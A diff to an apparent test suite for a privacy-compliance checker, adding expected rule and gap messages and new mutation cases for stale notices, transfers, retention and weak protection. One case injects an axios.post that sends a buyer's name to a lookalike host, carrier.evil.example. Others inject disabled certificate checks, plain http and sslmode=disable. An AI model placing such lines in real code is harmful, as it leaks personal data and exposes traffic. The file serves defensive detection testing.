@@ -124,6 +124,7 @@ company:
       ),
     ],
     gap: 'CONTRADICTION: connect-shop ended 2026-03-31; its calls are still in the code',
+    rule: 'stale-evidence warning scope-declaration.yaml',
   },
   {
     name: 'a purpose that has yet to begin and whose calls are there',
@@ -131,6 +132,7 @@ company:
       say('since: 2025-01-01\n    code: [src/connect/**]', 'since: 2027-01-01\n    code: [src/connect/**]'),
     ],
     gap: 'CONTRADICTION: connect-shop begins 2027-01-01; its calls are in the code already',
+    rule: 'stale-evidence warning scope-declaration.yaml',
   },
   // Retention
   {
@@ -147,6 +149,7 @@ company:
       ),
     ],
     gap: 'CONTRADICTION: ship-orders keeps nothing (P0D); the code stores buyer.name in main-db',
+    rule: 'notice-gap warning scope-declaration.yaml',
   },
   {
     name: 'the period of a category that there is not',
@@ -175,11 +178,13 @@ company:
       code(notice, 'with nobody else', 'with Mailer Inc.'),
     ],
     gap: 'CONTRADICTION: recipient mailer is bound to api.mailer.example; no personal data is seen to go there',
+    rule: 'invalid-declaration warning scope-declaration.yaml',
   },
   {
     name: 'a purpose shares with somebody whom it does not name',
     edits: [say('    shareWith: [carrier]\n', '')],
     gap: 'CONTRADICTION: data goes to carrier; shareWith of ship-orders does not name it',
+    rule: 'notice-gap warning scope-declaration.yaml',
   },
   {
     name: 'a purpose names a recipient that there is not',
@@ -196,6 +201,7 @@ company:
       ),
     ],
     gap: 'CONTRADICTION: buyer.phone goes to carrier; receives does not name it',
+    rule: 'notice-gap warning scope-declaration.yaml',
   },
   {
     name: 'a recipient gets a category that there is not',
@@ -224,6 +230,7 @@ company:
     name: 'a store without a country',
     edits: [say('    kind: postgres\n    country: DE\n', '    kind: postgres\n')],
     gap: 'MISSING: storage.main-db.country',
+    rule: 'place-gap warning scope-declaration.yaml',
   },
   {
     name: 'a store in a country that the company does not name',
@@ -241,6 +248,7 @@ company:
     name: 'a store holds what it is not declared to hold',
     edits: [say('holds: [buyer.name, buyer.address_street]', 'holds: [buyer.name]')],
     rule: 'notice-gap error',
+    gap: 'CONTRADICTION: the code stores buyer.address_street in main-db; no holds names it',
   },
   {
     name: 'a store is declared that nothing writes to',
@@ -251,6 +259,7 @@ company:
       ),
     ],
     gap: 'CONTRADICTION: store cache is bound to redis.orders; no personal data is seen to be stored there',
+    rule: 'invalid-declaration warning scope-declaration.yaml',
   },
   {
     name: 'a deletion misses a store',
@@ -259,6 +268,7 @@ company:
       say('code: [prisma.label]', 'code: [prisma.label, prisma.parcel]'),
     ],
     gap: 'MISSING: deletion of prisma.parcel',
+    rule: 'no-deletion-on-deauthorization warning scope-declaration.yaml',
   },
   {
     name: 'the handler of the deletion only marks',
@@ -306,6 +316,7 @@ company:
     name: 'the webhook of the deletion is not subscribed to',
     edits: [say('webhooks: [6]', 'webhooks: [1]')],
     gap: 'CONTRADICTION: deletion.handler is declared; webhooks does not name 6',
+    rule: 'no-deletion-on-deauthorization warning scope-declaration.yaml',
   },
   {
     name: 'a handler of a right that is not there',
@@ -316,6 +327,7 @@ company:
       ),
     ],
     gap: 'MISSING: src/support/erase.ts: the file is not there',
+    rule: 'invalid-declaration warning scope-declaration.yaml',
   },
   {
     name: 'a right that is not told of',
@@ -367,6 +379,7 @@ company:
     name: 'personal data in a log',
     edits: [added('console.log(to.name);')],
     rule: 'personal-data-logged',
+    gap: 'warning personal-data-logged',
   },
   {
     name: 'the document about encryption is not there',
@@ -447,11 +460,13 @@ company:
     name: 'the notice was last changed too long ago',
     edits: [say('updated: 2026-05-02', 'updated: 2025-05-02')],
     gap: 'STALE: notice reviewed 2025-05-02',
+    rule: 'stale-evidence warning scope-declaration.yaml',
   },
   {
     name: 'the notice names a host that neither code nor declaration knows',
     edits: [code(notice, 'and with nobody else', 'and send the name to track.adnet.example')],
     gap: 'CONTRADICTION: docs/privacy.md shares data with track.adnet.example; neither code nor declaration knows it',
+    rule: 'notice-gap warning scope-declaration.yaml',
   },
   {
     name: 'the code sends to a recipient whom the notice does not name',
@@ -463,11 +478,92 @@ company:
       ),
     ],
     gap: 'CONTRADICTION: data goes to carrier; docs/privacy.md does not name Carrier Example GmbH or api.carrier.example',
+    rule: 'notice-gap warning scope-declaration.yaml',
   },
   {
     name: 'the saved notice is not there',
     edits: [without('docs/privacy.md')],
     rule: 'invalid-declaration warning scope-declaration.yaml',
     gap: 'MISSING: docs/privacy.md: the file is not there',
+  },
+  {
+    name: 'the notice is said to be changed on a day to come',
+    edits: [say('updated: 2026-05-02', 'updated: 2027-05-02')],
+    rule: 'stale-evidence warning scope-declaration.yaml',
+    gap: 'CONTRADICTION: privacyNotice.updated says 2027-05-02, after 2026-11-01',
+  },
+  // What no paper and no rule had told
+  {
+    name: 'the register of the controllers is not there',
+    edits: [without('docs/sellers.md')],
+    rule: 'invalid-declaration warning scope-declaration.yaml',
+    gap: 'MISSING: docs/sellers.md: the file is not there',
+  },
+  {
+    name: 'the review of accesses is too old',
+    edits: [say('accessReviewed: 2026-05-02', 'accessReviewed: 2024-01-15')],
+    rule: 'stale-evidence warning scope-declaration.yaml',
+    gap: 'STALE: protection.accessReviewed: reviewed 2024-01-15',
+  },
+  {
+    name: 'a host that bears the name of a recipient and is another',
+    edits: [added("await axios.post('https://carrier.evil.example/x', { name: to.name });")],
+    rule: 'notice-gap error src/shipping/labels.ts',
+    gap: 'MISSING: recipients[].hosts, packages or code: none names carrier.evil.example',
+  },
+  {
+    name: 'a transfer that needs a ground and has none',
+    edits: [
+      say(
+        '    country: DE\n    transferMechanism: none-needed',
+        '    country: US\n    transferMechanism: none-needed',
+      ),
+    ],
+    rule: 'place-gap warning scope-declaration.yaml',
+    gap: 'warning place-gap: Recipient `carrier` is in US',
+  },
+  {
+    name: 'data stays longer after a withdrawal than at all',
+    edits: [
+      say('after: order.completed, onDeauthorization: P7D', 'after: order.completed, onDeauthorization: P2Y'),
+    ],
+    rule: 'open-ended-retention warning scope-declaration.yaml',
+    gap: 'warning open-ended-retention: Data of `ship-orders` stays P2Y',
+  },
+  {
+    name: 'a country that there is not',
+    edits: [say('headquarters: DE', 'headquarters: XX')],
+    rule: 'place-gap warning scope-declaration.yaml',
+    gap: 'warning place-gap: `XX` under `company.headquarters` is the code of no country',
+  },
+  {
+    name: 'unchecked certificates in a file that only uses the data',
+    edits: [
+      code(
+        labels,
+        'const CARRIER',
+        "import https from 'node:https';\nexport const agent = new https.Agent({ rejectUnauthorized: false });\nconst CARRIER",
+      ),
+    ],
+    rule: 'weak-protection warning src/shipping/labels.ts',
+    gap: 'CONTRADICTION: the code uses rejectUnauthorized: false',
+  },
+  {
+    name: 'a recipient is sent personal data without TLS',
+    edits: [code(labels, "'https://api.carrier.example", "'http://api.carrier.example")],
+    rule: 'weak-protection warning src/shipping/labels.ts',
+    gap: 'CONTRADICTION: the code uses http://api.carrier.example',
+  },
+  {
+    name: 'a database without TLS',
+    edits: [
+      code(
+        'src/storage/db.ts',
+        'new PrismaClient()',
+        "new PrismaClient({ datasourceUrl: 'postgres://app@db.example/orders?sslmode=disable' })",
+      ),
+    ],
+    rule: 'weak-protection warning src/storage/db.ts',
+    gap: 'CONTRADICTION: the code uses sslmode=disable',
   },
 ];
